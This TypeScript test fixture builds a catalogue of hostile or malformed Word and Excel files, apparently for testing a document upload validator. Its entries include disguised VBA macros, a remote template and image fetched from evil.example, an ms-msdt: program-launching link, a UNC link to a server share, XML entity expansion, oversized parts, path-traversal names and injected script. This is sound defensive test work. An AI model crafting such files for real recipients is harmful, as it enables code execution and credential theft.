import { crc32, deflateRawSync } from "node:zlib";

/** A file of an archive, and what is wrong with it where something is. */
interface Part {
  name: string;
  content: string | Buffer;
  /** Name, flags and bytes as the file itself has them, where they differ from the directory's. */
  local?: string;
  flags?: number;
  data?: Buffer;
  size?: number;
  /** Bytes that stand before it. */
  before?: string;
  /** Where the directory says that it stands. */
  from?: number;
}

const numbers = (...pairs: [value: number, bytes: 2 | 4][]) =>
  Buffer.concat(
    pairs.map(([value, bytes]) => {
      const buffer = Buffer.alloc(bytes);
      buffer.writeUIntLE(value, 0, bytes);
      return buffer;
    }),
  );

/** Packs an archive, by whatever its parts say of themselves. */
function zipOf(parts: readonly Part[], after = ""): Buffer {
  const [files, directory]: [Buffer[], Buffer[]] = [[], []];
  let at = 0;
  for (const { name, content, local = name, flags = 0, before = "", from, ...told } of parts) {
    const bytes = Buffer.from(content);
    const data = told.data ?? deflateRawSync(bytes);
    const [here, size] = [at + before.length, told.size ?? bytes.length];
    const said = numbers([flags, 2], [8, 2], [0, 4], [crc32(bytes), 4], [data.length, 4], [size, 4]);
    const file = Buffer.concat([
      Buffer.from(before),
      numbers([0x04034b50, 4], [20, 2]),
      said,
      numbers([local.length, 2], [0, 2]),
      Buffer.from(local),
      data,
    ]);
    files.push(file);
    directory.push(
      numbers([0x02014b50, 4], [20, 2], [20, 2]),
      said,
      numbers([name.length, 2], [0, 2], [0, 2], [0, 2], [0, 2], [0, 4], [from ?? here, 4]),
      Buffer.from(name),
    );
    at += file.length;
  }
  const listed = Buffer.concat(directory);
  const end = numbers([0x06054b50, 4], [0, 4], [parts.length, 2], [parts.length, 2], [listed.length, 4], [at, 4]);
  return Buffer.concat([...files, listed, end, numbers([after.length, 2]), Buffer.from(after)]);
}

const OFFICE = "application/vnd.openxmlformats-officedocument";
const RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

const KINDS = {
  docx: ["word/document.xml", "wordprocessingml.document.main+xml"],
  xlsx: ["xl/workbook.xml", "spreadsheetml.sheet.main+xml"],
} as const;

interface Makings {
  /** Content type of the main part. */
  type?: string;
  /** Further content types, and the relationships of the main part. */
  types?: string;
  links?: string;
  /** Relationships of the whole. */
  start?: string;
  prolog?: string;
  parts?: readonly Part[];
  after?: string;
}

const relationship = (kind: string, target: string, mode = "") =>
  `<Relationship Id="r1" Type="${kind.includes(":") ? kind : `${RELATIONSHIPS}/${kind}`}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;
const relationships = (links: string, prolog = XML) =>
  `${prolog}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links}</Relationships>`;
const override = (part: string, type: string) => `<Override PartName="${part}" ContentType="${type}"/>`;

/** Writes a small document of Word or Excel, with whatever else is to be in it. */
export function officeOf(kind: keyof typeof KINDS, makings: Makings = {}): Buffer {
  const [main, own] = KINDS[kind];
  const {
    type = `${OFFICE}.${own}`,
    types = "",
    links = "",
    start = "",
    prolog = XML,
    parts = [],
    after = "",
  } = makings;
  const folder = main.split("/")[0];
  const defaults = [
    ["rels", "application/vnd.openxmlformats-package.relationships+xml"],
    ["xml", "application/xml"],
    ["png", "image/png"],
  ].map(([extension, is]) => `<Default Extension="${extension}" ContentType="${is}"/>`);
  const content = `${prolog}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${defaults.join("")}${override(`/${main}`, type)}${types}</Types>`;
  return zipOf(
    [
      { name: "[Content_Types].xml", content },
      { name: "_rels/.rels", content: relationships(relationship("officeDocument", main) + start) },
      { name: main, content: `${XML}<w:document xmlns:w="x"><w:t>Deed of trust</w:t></w:document>` },
      { name: `${folder}/_rels/${main.split("/")[1]}.rels`, content: relationships(links, prolog) },
      ...parts,
    ],
    after,
  );
}

/** A link to a page, as documents have. */
export const LINK = relationship("hyperlink", "https://example.com/", "External");

const word = (makings: Makings): [Buffer] => [officeOf("docx", makings)];
const excel = (makings: Makings): [Buffer, string] => [officeOf("xlsx", makings), "a.xlsx"];
const part = (name: string, content: string | Buffer = "x", more: Partial<Part> = {}): Part => ({
  name,
  content,
  ...more,
});
const foreign = (name: string, type: string): Makings => ({ types: override(`/${name}`, type), parts: [part(name)] });
const MACRO = "application/vnd.ms-office.vbaProject";
const LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>';

/** Documents of an office that somebody might send to do harm, or by mistake, each by what it is. */
export const HOSTILE_OFFICE: Readonly<Record<string, [bytes: Buffer, name?: string]>> = {
  "a Word document with macros": word(foreign("word/vbaProject.bin", MACRO)),
  "an Excel document that says it has macros": excel({
    type: "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
  }),
  "macros that call themselves a picture": word({
    links: relationship("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.png"),
    parts: [part("word/media/a.png")],
  }),
  "a presentation": word({ type: `${OFFICE}.presentationml.presentation.main+xml` }),
  "an object of another program": word(foreign("word/embeddings/oleObject1.bin", `${OFFICE}.oleObject`)),
  "an object that calls itself a picture": word({
    links: relationship("oleObject", "media/a.png"),
    parts: [part("word/media/a.png")],
  }),
  "a program in it": word({ parts: [part("word/media/a.exe")] }),
  "a workbook in it": word({ links: relationship("package", "embeddings/a.png"), parts: [part("word/a.png")] }),
  "a page that is shown as its text": word({ links: relationship("aFChunk", "a.xml"), parts: [part("word/a.xml")] }),
  "a template from elsewhere": word({ links: relationship("attachedTemplate", "https://evil.example/a", "External") }),
  "a picture from elsewhere that is said in numbers": word({
    links: relationship("image", "https://evil.example/a.png", "&#69;xternal"),
  }),
  "a link that starts a program": word({ links: relationship("hyperlink", "ms-msdt:/id PCWDiagnostic", "External") }),
  "a link to a file of a server": word({ links: relationship("hyperlink", "\\\\evil.example\\a", "External") }),
  "another workbook": excel(foreign("xl/externalLinks/externalLink1.xml", `${OFFICE}.spreadsheetml.externalLink+xml`)),
  "definitions where its parts are named": word({ prolog: `<?xml version="1.0"?>${LAUGHS}` }),
  "definitions in its text": word({ parts: [part("word/a.xml", `${XML}${LAUGHS}<l>&b;</l>`)] }),
  "definitions in its text, two bytes a letter": word({
    parts: [part("word/a.xml", Buffer.from(`\ufeff${LAUGHS}<l>&b;</l>`, "utf16le"))],
  }),
  "parts named in another encoding": word({ prolog: '<?xml version="1.0" encoding="UTF-7"?>' }),
  "a part named twice": word({ types: override("/word/document.XML", "image/png") }),
  "two main parts": word({ start: relationship("officeDocument", "word/a.xml"), parts: [part("word/a.xml")] }),
  "a password": [Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.from("\0EncryptedPackage", "utf16le")])],
  "an encrypted part": word({ parts: [part("word/a.xml", "x", { flags: 1 })] }),
  "a part that grows": word({ parts: [part("word/a.xml", Buffer.alloc(40 * 1024 * 1024))] }),
  "a part that grows more than it says": word({ parts: [part("word/a.xml", "x".repeat(5000), { size: 10 })] }),
  "a part of another content than it says": word({ parts: [part("word/a.xml", "x", { data: Buffer.from([3, 0]) })] }),
  "many parts": word({ parts: Array.from({ length: 6000 }, (_, index) => part(`word/${index}.xml`)) }),
  "a name from the root": word({ parts: [part("/etc/a.xml")] }),
  "a name that leads up": word({ parts: [part("word/../../a.xml")] }),
  "a part twice": word({ parts: [part("word/a.xml"), part("word/A.xml")] }),
  "a part with two names": word({ parts: [part("word/a.xml", "x", { local: "word/b.exe" })] }),
  "a part that stands where another does": word({
    parts: [part("word/a.xml", "x", { from: 0, local: "[Content_Types].xml" })],
  }),
  "something between its parts": word({ parts: [part("word/a.xml", "x", { before: "<script>" })] }),
  "something behind its end": [Buffer.concat([officeOf("docx"), Buffer.from("<script>alert(1)</script>")])],
  "a comment that is an archive": word({ after: "PK\x05\x06" }),
  "a document that breaks off": [officeOf("docx").subarray(0, 700)],
  "an archive before its end": [Buffer.concat([Buffer.from("PK\x03\x04<html>"), officeOf("docx")])],
  "nothing but a head": [Buffer.from("PK\x03\x04")],
};
